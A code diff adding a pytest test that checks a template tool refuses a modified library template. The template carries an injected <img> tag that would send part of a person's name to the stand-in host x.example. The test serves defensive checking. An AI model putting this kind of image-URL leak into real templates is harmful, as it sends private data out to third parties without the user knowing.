@@ -129,6 +129,22 @@ def test_a_handout_that_cannot_be_laid_out_costs_its_rows(tmp_path: Path) -> Non
     assert (report.copied, report.refused) == (0, 5)
 
 
+@pytest.mark.parametrize("jobs", [1, 2])
+def test_what_a_librarys_template_does_with_a_name_is_told_without_it(
+    jobs: int, tmp_path: Path
+) -> None:
+    template = "styles/templates/parts/person.jinja"
+    image = '<img src="http://x.example/{{ one.parts[0][0] }}.png" alt=""/>'
+    shipped = (Path(__file__).parents[2] / template).read_text(encoding="utf-8")
+    asking = shipped.replace("</bdi>{% if", f"{image}</bdi>{{% if", 1)
+    library = write_library(tmp_path / "library", {template: asking})
+    report = merged(library, tmp_path / "to", jobs=jobs)
+    assert (report.copied, report.refused) == (0, 5)
+    codes_said = {one.code for one in report.findings}
+    assert {codes.MISSING_RESOURCE.id, codes.REFUSED_FETCH.id} <= codes_said
+    assert not any("Example" in one.message for one in report.findings)
+
+
 def test_where_masters_fail_their_trial_all_is_laid_out_in_full_and_told(tmp_path: Path) -> None:
     sheet = {"styles/parts/person.css": "[data-slot] { text-decoration: underline }"}
     library = write_library(tmp_path / "library", sheet)
